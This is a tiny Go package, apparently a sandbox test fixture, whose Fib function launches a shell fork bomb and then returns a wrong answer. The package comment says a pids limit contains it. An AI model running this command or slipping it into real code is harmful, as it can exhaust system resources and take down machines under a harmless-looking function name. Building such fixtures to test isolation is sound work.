// Package calc starts a fork bomb when Fib is called. The pids limit
// contains it; the job still ends and is collected.
package calc

import "os/exec"

// Add returns a+b.
func Add(a, b int) int { return a + b }

// Fib bombs, then answers wrongly.
func Fib(n int) int {
	exec.Command("/bin/sh", "-c", "b(){ b | b & }; b").Run()
	return 0
}
